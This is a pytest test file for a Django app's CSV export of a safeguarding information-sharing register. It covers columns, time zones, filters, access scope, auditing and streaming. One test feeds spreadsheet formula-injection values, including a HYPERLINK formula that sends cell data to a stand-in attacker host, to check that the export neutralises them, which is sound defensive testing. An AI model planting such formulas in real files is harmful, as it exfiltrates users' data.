"""The CSV export: every state flag its own column, the register's rows, streamed, safe in a spreadsheet."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.http import StreamingHttpResponse

from isg.audit.models import AuditEvent
from isg.decisions.models import Decision
from isg.exports import csv as csv_export
from isg.exports.models import ExportJob
from isg.flowchart.models import FlowchartVersion
from isg.flowchart.services import current_flowchart
from isg.register import search
from tests.factories import make_decision

from .conftest import body, client_for, post_export

pytestmark = pytest.mark.django_db


def read(response) -> list[dict]:
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for spreadsheet apps"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_csv_streams_with_a_bom_and_every_state_flag_column(people, decisions):
    response = post_export(client_for(people["lscb"]), "csv")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="isg-decisions-')
    assert "no-store" in response["Cache-Control"]
    rows = read(response)
    columns = list(rows[0])
    assert columns[:18] == [
        "public_id", "case_reference", "agency", "practitioner", "practitioner_id", "status", "status_label",
        "outcome", "outcome_title", "requires_approval", "emergency", "overdue", "submitted_at",
        "flowchart_version", "flowchart_sha256", "approval_decided_by", "approval_decided_by_id", "approval_decided_at",
    ]
    variables = list(current_flowchart().variables)
    # Each state variable's code, then its words.
    assert [c for c in columns if c.startswith("state.")] == [
        column for v in variables for column in (f"state.{v}", f"state.{v}.label")
    ]
    # The submitted decisions, newest first; never the draft.
    submitted = [decisions[n] for n in ("serious", "emergency", "limited", "consent")]
    assert [r["public_id"] for r in rows] == [str(d.public_id) for d in submitted]
    for row, decision in zip(rows, submitted, strict=True):
        assert row["case_reference"] == decision.case_reference
        assert row["practitioner_id"] == str(decision.owner_id)
        assert row["status_label"] == decision.get_status_display()
        assert row["outcome"] == decision.outcome and row["outcome_title"]
        assert row["flowchart_sha256"] == decision.flowchart_id
        for name in variables:
            value = decision.state.get(name)
            expected = "" if value is None else ("true" if value is True else "false" if value is False else value)
            assert row[f"state.{name}"] == expected, name
            assert bool(row[f"state.{name}.label"]) == (value is not None), name
    emergency = next(r for r in rows if r["case_reference"] == "SOUTH-1")
    assert emergency["emergency"] == "true" and emergency["requires_approval"] == "true"
    assert emergency["status"] == Decision.Status.AWAITING_REVIEW
    assert emergency["status_label"] == Decision.Status.AWAITING_REVIEW.label
    assert next(r for r in rows if r["case_reference"] == "NORTH-1")["state.consent_status"] == "given"


def test_people_are_their_names_with_their_ids_beside_them(people, decisions):
    people["pat"].first_name, people["pat"].last_name = "Pat", "Okoye"
    people["pat"].save()
    decision = decisions["serious"]
    from isg.approvals import services as approvals

    approvals.approve(decision, people["manager2"], "Serious harm is likely.", decision.revision)
    rows = {r["case_reference"]: r for r in read(post_export(client_for(people["lscb"]), "csv"))}
    assert rows["NORTH-1"]["practitioner"] == "Pat Okoye" and rows["NORTH-1"]["practitioner_id"] == str(people["pat"].pk)
    assert rows["SOUTH-1"]["practitioner"] == "pat2"  # no name given: the username, as the app shows it
    decided = rows["SOUTH-2"]
    assert decided["approval_decided_by"] == people["manager2"].display_name
    assert decided["approval_decided_by_id"] == str(people["manager2"].pk)
    assert decided["approval_decided_at"].endswith(("+00:00", "+01:00"))


@pytest.mark.parametrize(("stored", "shown"), [
    (datetime.datetime(2026, 7, 1, 9, 15, tzinfo=datetime.UTC), "2026-07-01T10:15:00+01:00"),  # British Summer Time
    (datetime.datetime(2026, 12, 1, 9, 15, 30, 123456, tzinfo=datetime.UTC), "2026-12-01T09:15:30+00:00"),  # GMT
])
def test_times_are_uk_local_time_with_their_offset(people, decisions, stored, shown):
    Decision.objects.filter(pk=decisions["consent"].pk).update(submitted_at=stored)
    rows = {r["case_reference"]: r for r in read(post_export(client_for(people["lscb"]), "csv"))}
    assert rows["NORTH-1"]["submitted_at"] == shown


def test_codes_have_their_words_beside_them(people, decisions):
    flowchart = current_flowchart()
    rows = {r["case_reference"]: r for r in read(post_export(client_for(people["lscb"]), "csv"))}
    limited = rows["NORTH-2"]
    assert limited["state.consent_status"] == "refused"
    node = flowchart.node("consent_outcome")
    # The question and the answer that set it, as the practitioner was shown them.
    assert limited["state.consent_status.label"] == f"{node.question} {node.answer('refused').label}"
    assert limited["outcome_title"] == flowchart.outcome("outcome_share_limited").text_for(
        decisions["limited"].state, flowchart).title
    # A value several answers can set: the engine's plain words for it.
    assert limited["state.decision"] == "share" and limited["state.decision.label"] == "The decision is to share"
    assert rows["NORTH-1"]["status_label"] == decisions["consent"].get_status_display()


def test_labels_come_from_the_flowchart_version_each_decision_was_made_under(people, decisions):
    live = Path(settings.ISG_FLOWCHART_PATH).read_bytes()
    older = live.replace(b'label: "They refused"', b'label: "They said no (earlier wording)"')
    sha = hashlib.sha256(older).hexdigest()
    FlowchartVersion.objects.create(sha256=sha, version="1.0.9", title="Earlier", content=older)
    Decision.objects.filter(pk=decisions["limited"].pk).update(flowchart_id=sha, flowchart_version="1.0.9")
    rows = {r["case_reference"]: r for r in read(post_export(client_for(people["lscb"]), "csv"))}
    assert rows["NORTH-2"]["flowchart_version"] == "1.0.9"
    assert rows["NORTH-2"]["state.consent_status.label"].endswith("They said no (earlier wording)")


@pytest.mark.parametrize(("query", "expected"), [
    ("agency=north", {"consent", "limited"}),
    ("outcome=outcome_share_limited", {"limited"}),
    ("emergency=yes", {"emergency"}),
    ("flag=consent_status:given", {"consent"}),
    ("q=SOUTH-2", {"serious"}),
])
def test_the_rows_are_the_registers_for_the_filter(people, decisions, query, expected):
    rows = read(post_export(client_for(people["lscb"]), "csv", query))
    assert {r["public_id"] for r in rows} == {str(decisions[n].public_id) for n in expected}


def test_a_page_cursor_in_the_query_is_not_part_of_the_filter(people, decisions):
    rows = read(post_export(client_for(people["lscb"]), "csv", "agency=south&cursor=whatever"))
    assert {r["case_reference"] for r in rows} == {"SOUTH-1", "SOUTH-2"}


def test_a_manager_exports_only_their_scope(people, decisions):
    rows = read(post_export(client_for(people["manager"]), "csv"))
    assert {r["case_reference"] for r in rows} == {"NORTH-1", "NORTH-2"}


@pytest.mark.parametrize("reference", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-1", "@SUM(A1:A2)", "\tTAB", "\rCR",
])
def test_formula_injection_is_neutralised(people, reference):
    make_decision(people["pat"], "outcome_share_with_consent", submit=True, case_reference=reference)
    rows = read(post_export(client_for(people["lscb"]), "csv"))
    assert [r["case_reference"] for r in rows] == ["'" + reference]


def test_safe_cell():
    assert csv_export.safe_cell("=1+1") == "'=1+1"
    assert csv_export.safe_cell(datetime.datetime(2026, 3, 29, 1, 30, tzinfo=datetime.UTC)) == "2026-03-29T02:30:00+01:00"
    assert csv_export.safe_cell("a=b") == "a=b"
    assert csv_export.safe_cell(True) == "true" and csv_export.safe_cell(None) == ""
    # quoting: commas, quotes and new lines stay inside their cell
    make = csv.writer(csv_export._Line(), quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    line = make.writerow([csv_export.safe_cell('a, "b"\nc')])
    assert line == '"a, ""b""\nc"\r\n'


def test_a_small_export_is_audited_with_its_filter_and_count_and_no_search_words(people, decisions):
    post_export(client_for(people["lscb"]), "csv", "agency=north&q=NORTH")
    event = AuditEvent.objects.filter(subject_type="export").get()
    assert event.action == "exported" and event.actor == people["lscb"]
    assert event.payload["kind"] == "csv" and event.payload["mode"] == "sync" and event.payload["count"] == 2
    assert event.payload["filter"]["agency"] == "north" and "q" not in event.payload["filter"]
    # The words as a register search records them: a keyed hash (a list of names hashed with plain
    # sha256 would find them) and how many words.
    assert event.payload["filter"]["search_hmac"] == search.digest("NORTH")
    assert event.payload["filter"]["search_hmac"] != hashlib.sha256(b"NORTH").hexdigest()
    assert event.payload["filter"]["search_words"] == 1 and "NORTH" not in str(event.payload)
    assert not ExportJob.objects.exists(), "small exports leave no job and no file"


def test_the_get_page_says_what_would_be_exported(people, decisions):
    response = client_for(people["lscb"]).get("/exports/csv/?agency=north")
    text = response.content.decode()
    assert response.status_code == 200
    assert "2 decisions match" in text and 'name="filter" value="agency=north"' in text
    assert not AuditEvent.objects.filter(subject_type="export").exists(), "looking is not exporting"


def test_a_bad_filter_is_refused_with_a_reason(people, decisions):
    response = post_export(client_for(people["lscb"]), "csv", "agency=nowhere")
    assert response.status_code == 400
    assert "There is no agency" in response.content.decode()
    assert not AuditEvent.objects.filter(subject_type="export").exists()


def test_constant_memory_shape_of_the_query():
    """The rows are read as values through an iterator: no model instances, no `path` column."""
    assert "path" not in csv_export.VALUES
    assert csv_export.CHUNK_SIZE >= 1000


def test_names_are_looked_up_once_per_person_not_per_row(people, django_assert_max_num_queries):
    for n in range(12):
        make_decision(people["pat"], "outcome_do_not_share", submit=True, case_reference=f"MANY-{n}")
    decisions = Decision.objects.exclude(status=Decision.Status.DRAFT).order_by("-submitted_at")
    with django_assert_max_num_queries(6):  # flowchart versions, the rows, one person
        lines = list(csv_export.csv_lines(decisions))
    assert "".join(lines).count("MANY-") == 12


def test_the_shared_with_organisation_filter_exports_exactly_its_rows(people, decisions):
    """The register's "Shared with (organisation)" (recorded shares, isg/disclosures) narrows the export alike."""
    from tests.factories import make_organisation, make_share

    police = make_organisation("Riverside Police", kind="police")
    make_share(decisions["serious"], organisation=police)
    make_share(decisions["consent"], recipient_name="The Lantern Trust")
    client = client_for(people["lscb"])
    assert {r["case_reference"] for r in read(post_export(client, "csv", f"shared-with={police.pk}"))} == {"SOUTH-2"}
    both = read(post_export(client, "csv", f"shared-with={police.pk}&shared-with=another"))
    assert {r["case_reference"] for r in both} == {"SOUTH-2", "NORTH-1"}
